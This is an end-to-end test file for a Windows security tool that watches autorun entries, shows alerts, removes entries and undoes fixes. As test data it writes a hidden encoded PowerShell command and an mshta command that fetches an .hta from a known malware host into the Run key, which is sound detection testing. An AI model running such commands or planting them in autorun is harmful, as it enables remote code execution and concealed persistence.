// The shield at work, driven as a user would: a program adds itself to the current user's
// autorun list, the shield notices on its next autorun pass and asks in its alert window, and
// the user's choice (Shield me / Ignore, once or always) is carried out and remembered.
#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <map>

#include "common/Files.h"
#include "config/Options.h"
#include "e2e/AlertDriving.h"
#include "platform/Registry.h"
#include "warnings/Backuper.h"
#include "warnings/WarningKinds.h"

namespace sentrel::e2e {
namespace {

TEST(ShieldAtWork, AsksAboutANewAutorunEntryAndRemembersTheAnswer) {
    test::TempFolder programs;
    const std::string tool = programs / "updater tool.exe";
    const std::string evil = programs / "evil.exe";
    test::WriteTextFile(evil, KnownThreatContent());
    ShieldFolder folder;
    RunKey run;
    ShieldProcess shield(folder);
    ASSERT_TRUE(shield.WaitUntilStarted());

    // An unknown program: the calm alert.
    run.Add("E2E Updater", tool);
    HWND alert = WaitForAlert(shield);
    ASSERT_NE(alert, nullptr) << "no alert for a new autorun entry";
    const std::string description = "Unidentified program updater tool.exe was added to the autorun list";
    {
        const auto texts = ChildTexts(alert);
        EXPECT_TRUE(Contains(texts, "Change in autorun list"));
        EXPECT_TRUE(Contains(texts, description));
        EXPECT_TRUE(Contains(texts, "Do it always"));
        EXPECT_TRUE(Contains(texts, "Do it always with all such threats"));
    }
    SaveWindowPicture(alert, ScreenshotPath("alert-yellow.bmp"));
    Choose(alert, {"Do it always"}, "ignore");
    EXPECT_EQ(ReadTextFile(folder / "white_list.txt"), description + "\r\n");
    EXPECT_TRUE(run.Read("E2E Updater").has_value()) << "Ignore must leave the entry";

    // A known malicious program: the danger alert, then its file.
    run.Add("E2E Evil", evil);
    alert = WaitForAlert(shield);
    ASSERT_NE(alert, nullptr) << "no alert for a known program";
    {
        const auto texts = ChildTexts(alert);
        EXPECT_TRUE(Contains(texts, "Known malicious program"));
        EXPECT_TRUE(Contains(texts, "Malicious program is found in autorun: evil.exe."));
    }
    SaveWindowPicture(alert, ScreenshotPath("alert-red.bmp"));
    Choose(alert, {}, "ignore");
    alert = WaitForAlert(shield);
    ASSERT_NE(alert, nullptr) << "the program file itself was not reported";
    EXPECT_TRUE(Contains(ChildTexts(alert), "Malicious file is found in system folder: evil.exe."));
    Choose(alert, {}, "ignore");
    run.Remove("E2E Evil");

    // What an entry runs and why that looks dangerous: an encoded PowerShell in a hidden window,
    // and mshta fetching from a host of the shipped malicious-hosts table (the red alert); a
    // program in Program Files is asked about without reasons.
    const std::string host = "aadcdn.msonline.at";
    run.Add("E2E Encoded", "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA");
    run.Add("E2E Hta", "mshta.exe http://" + host + "/update.hta");
    run.Add("E2E Vendor", "\"C:\\Program Files\\Vendor\\vendor.exe\" /background");
    std::map<std::string, std::vector<std::string>> shown;
    for (int i = 0; i < 3; ++i) {
        alert = WaitForAlert(shield);
        ASSERT_NE(alert, nullptr) << "alerts so far: " << shown.size();
        const std::vector<std::string> texts = ChildTexts(alert);
        const std::string all = Joined(texts);
        const std::string entry = all.find("-EncodedCommand") != std::string::npos ? "encoded"
                                  : all.find("update.hta") != std::string::npos  ? "hta"
                                                                                 : "vendor";
        if (entry == "hta") SaveWindowPicture(alert, ScreenshotPath("alert-malicious-host.bmp"));
        if (entry == "encoded") SaveWindowPicture(alert, ScreenshotPath("alert-why-dangerous.bmp"));
        shown[entry] = texts;
        Choose(alert, {}, "ignore");
    }
    EXPECT_TRUE(Contains(shown["encoded"], "Why it looks dangerous: PowerShell runs an encoded command that hides what "
                                           "it does; PowerShell runs in a hidden window"))
        << Joined(shown["encoded"]);
    EXPECT_TRUE(Contains(shown["hta"], "Why it looks dangerous: " + host +
                                           " is listed by URLhaus as a host that spread malware; mshta runs an HTML "
                                           "application from the Internet; its command line holds a web address"))
        << Joined(shown["hta"]);
    // The description keeps the name the lists hold; the command's line names the program that runs.
    EXPECT_TRUE(Contains(shown["hta"], "Unidentified program //" + host + "/update.hta was added to the autorun list"));
    const std::string command = "\\mshta.exe http://" + host + "/update.hta";
    EXPECT_TRUE(std::any_of(shown["hta"].begin(), shown["hta"].end(), [&](const std::string& text) {
        return text.starts_with("C:\\") && text.ends_with(command);
    })) << Joined(shown["hta"]);
    EXPECT_TRUE(Contains(shown["vendor"], "\"C:\\Program Files\\Vendor\\vendor.exe\" /background"))
        << Joined(shown["vendor"]);
    for (const std::string& text : shown["vendor"]) EXPECT_EQ(text.find("Why it looks"), std::string::npos) << text;

    // The same program under a new entry: the white list drops it without asking. A new entry
    // afterwards is asked about, so the monitor was running all along.
    run.Add("E2E Updater again", tool);
    if (const HWND unexpected = WaitForAlert(shield, 14s))
        ADD_FAILURE() << "an alert came while only a white-listed entry was new: " << AllTexts(unexpected);
    run.Add("E2E Other", programs / "other.exe");
    alert = WaitForAlert(shield);
    ASSERT_NE(alert, nullptr);
    EXPECT_TRUE(Contains(ChildTexts(alert), "Unidentified program other.exe was added to the autorun list"));

    // Shield me, always for such threats: the entry goes, the category option is written at
    // once, and the fix leaves a backup record.
    Choose(alert, {"Do it always with all such threats"}, "shield");
    EXPECT_FALSE(run.Read("E2E Other").has_value());
    EXPECT_EQ(folder.Option("AutorunAction"), 1);
    Stop(shield);

    TBackuper backuper(folder.Path());
    ASSERT_EQ(backuper.GetCount(), 1);
    EXPECT_EQ(backuper.GetString(0, "Type"), "TAutorunAddWarning");
    EXPECT_EQ(backuper.GetString(0, "Desc"), "Program other.exe was deleted from the autorun list");
    // The record keeps why the entry looked dangerous: the test's programs lie in the temporary folder.
    EXPECT_EQ(backuper.GetString(0, "Why"), "the program is in the temporary folder");
    ShieldWarningKind(backuper.GetString(0, "Type")).Undo(backuper, 0, WarningContext{});
    const auto restored = run.Read("E2E Other");
    ASSERT_TRUE(restored.has_value()) << "undo did not put the entry back";
    EXPECT_EQ(restored->type, static_cast<DWORD>(REG_SZ));
    EXPECT_EQ(platform::StringFromRegistryData(restored->data), programs / "other.exe");
    EXPECT_EQ(backuper.GetCount(), 0);
}

TEST(ShieldAtWork, CountsTheWaitingWarningsAndSettlesThoseOfTheCategoryAtOnce) {
    ShieldFolder folder;
    RunKey run;
    ShieldProcess shield(folder);
    ASSERT_TRUE(shield.WaitUntilStarted());
    // Four new entries in one autorun pass: the first is shown, three wait.
    std::vector<std::string> names = {"E2E Flood 1", "E2E Flood 2", "E2E Flood 3", "E2E Flood 4"};
    for (const std::string& name : names) run.Add(name, "C:\\Program Files\\Flood\\" + name + ".exe");
    const HWND alert = WaitForAlert(shield);
    ASSERT_NE(alert, nullptr);
    EXPECT_TRUE(Eventually([&] { return FindChildByText(alert, "3 more waiting") != nullptr; }, 15s));

    // While the alert is up, a known threat in the Windows folder joins the queue, then one
    // more entry behind it.
    char windows[MAX_PATH] = {};
    GetWindowsDirectoryA(windows, MAX_PATH);
    const std::string threat = std::string(windows) + "\\e2e-flood-" + std::to_string(GetCurrentProcessId()) + ".dll";
    test::WriteTextFile(threat, KnownThreatContent());
    EXPECT_TRUE(Eventually([&] { return FindChildByText(alert, "4 more waiting") != nullptr; }, 10s));
    names.push_back("E2E Flood 5");
    run.Add(names.back(), "C:\\Program Files\\Flood\\flood5.exe");
    EXPECT_TRUE(Eventually([&] { return FindChildByText(alert, "5 more waiting") != nullptr; }, 15s));
    SaveWindowPicture(alert, ScreenshotPath("alert-waiting.bmp"));

    // Shield me for all such threats: every waiting autorun entry goes with the shown one, the
    // one behind the file too, so the file, of another category, is the next alert with nothing
    // behind it (one at a time, the last entry would still wait behind the file).
    Choose(alert, {"Do it always with all such threats"}, "shield");
    ASSERT_EQ(WaitForAlert(shield), alert);
    EXPECT_TRUE(Contains(ChildTexts(alert), "Malicious file is found in system folder: " + FileNamePart(threat) + "."));
    for (const std::string& text : ChildTexts(alert)) EXPECT_EQ(text.find("more waiting"), std::string::npos) << text;
    for (const std::string& name : names) EXPECT_FALSE(run.Read(name).has_value()) << name;
    Choose(alert, {}, "ignore");
    DeleteFileA(threat.c_str());
    Stop(shield);
    EXPECT_EQ(TBackuper(folder.Path()).GetCount(), 5);
}

// True when `window` answers a sent message within 200 ms.
bool Answers(HWND window) {
    DWORD_PTR result = 0;
    return SendMessageTimeoutA(window, WM_NULL, 0, 0, SMTO_BLOCK | SMTO_ABORTIFHUNG, 200, &result) != 0;
}

TEST(ShieldAtWork, WindowsAnswerWhileARegistryKeyIsBeingFixedAndUndone) {
    constexpr const char* kThreatKey = "Software\\SentrelTest\\ThreatKey";
    ShieldFolder folder;
    ASSERT_TRUE(CopyFileA((BuildBinFolder() + "slow_registry_editor.exe").c_str(),
                          (folder / "slow_registry_editor.exe").c_str(), FALSE));
    const OptionWrite editor{"RegistryEditor", folder / "slow_registry_editor.exe"};
    TOptions("options.ini", folder.Path()).WriteValues({&editor, 1});
    platform::RegistryKey::Create(HKEY_CURRENT_USER, kThreatKey).WriteString("Part", "1");
    RunKey run;
    ShieldProcess shield(folder);
    ASSERT_TRUE(shield.WaitUntilStarted());
    const HWND mainWindow = shield.WaitForWindow("TMainForm");
    const HWND alert = WaitForAlert(shield);
    ASSERT_NE(alert, nullptr) << "no alert for the threat key";
    const HWND shieldButton = FindChildByText(alert, "shield");
    ASSERT_NE(shieldButton, nullptr);

    // Shield me: the export is held, so the fix stays under way with the buttons disabled.
    PostMessageA(shieldButton, BM_CLICK, 0, 0);
    ASSERT_TRUE(Eventually([&] { return !IsWindowEnabled(shieldButton); }, 10s));
    // A new autorun entry meanwhile; both windows answer at once all through an autorun pass.
    run.Add("E2E During Fix", "C:\\Program Files\\During\\during.exe");
    for (const auto passEnds = std::chrono::steady_clock::now() + 8s; std::chrono::steady_clock::now() < passEnds;) {
        ASSERT_TRUE(Answers(alert)) << "the alert did not answer within 200 ms";
        ASSERT_TRUE(Answers(mainWindow)) << "the main window did not answer within 200 ms";
    }
    EXPECT_FALSE(IsWindowEnabled(shieldButton));
    EXPECT_TRUE(platform::RegistryKey::Open(HKEY_CURRENT_USER, kThreatKey).has_value());

    // Let the export go: the key goes, and the entry found meanwhile is asked about next.
    test::WriteTextFile(folder / "release", "");
    EXPECT_TRUE(Eventually([&] { return !platform::RegistryKey::Open(HKEY_CURRENT_USER, kThreatKey); }, 20s));
    EXPECT_TRUE(Eventually([&] {
        return IsWindowVisible(alert) &&
               Contains(ChildTexts(alert), "Unidentified program during.exe was added to the autorun list");
    }));
    Choose(alert, {}, "ignore");
    TBackuper backuper(folder.Path());
    ASSERT_EQ(backuper.GetCount(), 1);
    EXPECT_EQ(backuper.GetString(0, "Type"), "TRegistyWarning");
    EXPECT_TRUE(FileExists(backuper.RecordFolder(backuper.GetSectionName(0)) + "backup.reg"));

    // Its undo from the restore page: the import is held, Undo and Delete stay off, and the
    // dialog and the main window answer all the while.
    Press(mainWindow, "undo");
    const HWND dialog = shield.WaitForWindow("TOptionsForm");
    ASSERT_TRUE(WaitForVisibility(dialog, true));
    const HWND page = FindChildByText(dialog, "Restore Changes");
    const HWND undo = FindChildByText(page, "&Undo");
    const HWND list = GetDlgItem(page, 700);
    ASSERT_TRUE(undo && list);
    SendMessageA(list, LB_SETSEL, TRUE, 0);
    PostMessageA(undo, BM_CLICK, 0, 0);
    ASSERT_TRUE(Eventually([&] { return !IsWindowEnabled(undo); }, 10s));
    for (const auto passEnds = std::chrono::steady_clock::now() + 3s; std::chrono::steady_clock::now() < passEnds;) {
        ASSERT_TRUE(Answers(dialog)) << "the options dialog did not answer within 200 ms";
        ASSERT_TRUE(Answers(mainWindow)) << "the main window did not answer within 200 ms";
    }
    EXPECT_FALSE(IsWindowEnabled(FindChildByText(page, "&Delete")));
    EXPECT_EQ(backuper.GetCount(), 1) << "the record went before its undo was done";

    // Let the import go: the key is back, the record gone, the buttons on again.
    test::WriteTextFile(folder / "release-import", "");
    EXPECT_TRUE(Eventually([&] { return platform::RegistryKey::Open(HKEY_CURRENT_USER, kThreatKey).has_value(); }));
    EXPECT_TRUE(Eventually([&] { return backuper.GetCount() == 0 && IsWindowEnabled(undo); }));
    EXPECT_EQ(SendMessageA(list, LB_GETCOUNT, 0, 0), 0);
    Stop(shield);
    platform::DeleteKeyTree(HKEY_CURRENT_USER, kThreatKey);
}

TEST(ShieldAtWork, DisabledLevelRunsNoMonitor) {
    ShieldFolder folder(SecurityLevel::Disabled);
    RunKey run;
    ShieldProcess shield(folder);
    ASSERT_TRUE(shield.WaitUntilStarted());
    run.Add("E2E Disabled", "C:\\Program Files\\Tool\\tool.exe");
    EXPECT_EQ(WaitForAlert(shield, 15s), nullptr);
    EXPECT_TRUE(run.Read("E2E Disabled").has_value());
    EXPECT_EQ(folder.Option("Shield"), 4);
    Stop(shield);
}

}  // namespace
}  // namespace sentrel::e2e
